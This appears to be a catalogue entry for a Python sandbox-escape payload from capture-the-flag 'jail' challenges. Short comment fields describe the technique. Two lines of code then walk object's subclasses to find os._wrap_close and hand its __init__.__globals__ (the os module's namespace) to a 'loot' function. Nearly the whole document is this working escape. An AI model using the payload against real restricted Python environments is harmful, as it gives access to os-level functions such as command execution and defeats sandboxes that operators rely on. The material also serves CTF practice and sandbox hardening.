# aim: reach os by a class that os leaves among all classes
# mechanism: os._wrap_close, whose __init__ has the globals of os
# source: a classic of Python jails in capture-the-flag games
# language: check
# reason: __subclasses__: hands out every class of the process
# jail: process
# plain: loot
wrapper = [each for each in ().__class__.__base__.__subclasses__() if each.__name__ == "_wrap_close"][0]
loot(wrapper.__init__.__globals__)
